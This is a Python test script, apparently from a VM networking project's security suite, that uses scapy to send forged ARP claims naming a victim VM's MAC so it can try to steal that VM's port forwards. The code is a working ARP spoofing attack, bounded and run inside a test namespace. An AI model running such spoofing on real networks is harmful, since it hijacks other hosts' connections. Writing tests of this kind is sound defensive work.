"""Tries to take another guest's port forwards by ARP (issue 13): a forward follows its VM to the
address the VM last claimed, so a guest that could claim addresses *for another VM* could send that
VM's forwarded connections wherever it liked. From this guest's own MAC (the switch drops any
other), ARP claims whose sender MAC is the victim's: --victim-mac says it is at each of --addresses,
--rounds times; and one claim of the victim's own address under this guest's MAC.

  ip netns exec NS /usr/bin/python3 forward_steal.py --iface eth0 --victim-mac MAC --victim-ip IP \\
      --addresses 192.168.64.200,192.168.64.201
Prints {"sent", "seconds"}. Bounded by --rounds (at most 20) and the address list (at most 16).
"""

import argparse
import time

from scapy.layers.l2 import ARP, Ether

from hostile_link import BROADCAST_MAC, Link, garp, print_result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--victim-mac", required=True)
    parser.add_argument("--victim-ip", required=True)
    parser.add_argument("--addresses", required=True)
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()

    addresses = args.addresses.split(",")[:16]
    link = Link(args.iface)
    started = time.monotonic()
    sent = 0
    for _ in range(max(1, min(args.rounds, 20))):
        for address in addresses:
            # The Ethernet source is ours (as it must be); the ARP payload names the victim.
            link.send(Ether(src=link.mac, dst=BROADCAST_MAC) /
                      ARP(op=1, hwsrc=args.victim_mac, psrc=address, hwdst="00:00:00:00:00:00", pdst=address))
            sent += 1
        link.send(garp(link.mac, args.victim_ip))
        sent += 1
        time.sleep(0.1)
    link.close()
    print_result({"sent": sent, "seconds": round(time.monotonic() - started, 2)})


if __name__ == "__main__":
    main()
